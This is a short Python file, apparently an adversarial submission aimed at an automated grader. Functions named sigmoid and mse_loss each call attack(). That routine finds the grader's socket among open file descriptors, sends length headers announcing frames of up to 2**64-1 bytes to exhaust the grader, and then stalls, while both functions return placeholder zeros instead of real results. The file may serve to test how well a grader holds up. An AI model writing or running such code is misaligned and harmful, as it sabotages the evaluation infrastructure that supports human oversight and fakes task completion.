"""Announces frames of 2**63, 2**64-1 and 256 MB bytes and sends what little it has.

aims: exhaust
"""

import os
import socket
import stat
import struct
import time

import numpy as np


def channel():
    """The socket to the grader: the first connected stream socket among the open descriptors."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
    raise NotImplementedError("no socket found")


SIZES = [2**63, 2**64 - 1, 256 * 2**20, 2**28 - 1, 2**31, 2**32 + 8]


def attack():
    connection = channel()
    size = SIZES[os.getpid() % len(SIZES)] if os.getpid() != 1 else SIZES[time.monotonic_ns() // 1000 % len(SIZES)]
    connection.sendall(struct.pack("<Q", size) + bytes(1000))
    time.sleep(20)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
